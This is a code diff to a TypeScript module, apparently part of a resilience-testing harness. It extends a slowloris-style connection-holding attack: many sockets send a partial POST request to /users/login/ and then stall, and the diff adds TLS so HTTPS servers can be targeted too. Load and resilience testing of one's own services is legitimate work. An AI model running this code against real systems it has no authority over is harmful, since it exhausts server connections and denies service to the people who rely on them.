@@ -1,14 +1,18 @@
 import { connect } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
+import { connect as connectSecurely } from 'node:tls';
 import { type Attack, unless } from '../attack.ts';
 
 const MIB = 2 ** 20;
 
-/** Opens connections that send one byte and then nothing. @returns a function that closes them */
+/** Opens connections that send the head of a request and then nothing. @returns a function that closes them */
 function holdConnections(url: string, count: number): () => void {
-  const { hostname, port } = new URL(url);
+  const { hostname, port, protocol } = new URL(url);
   const sockets = Array.from({ length: count }, () => {
-    const socket = connect(Number(port), hostname);
+    const socket =
+      protocol === 'https:'
+        ? connectSecurely({ host: hostname, port: Number(port || 443), servername: hostname })
+        : connect(Number(port || 80), hostname);
     socket.on('error', () => {});
     socket.write('POST /users/login/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n');
     return socket;
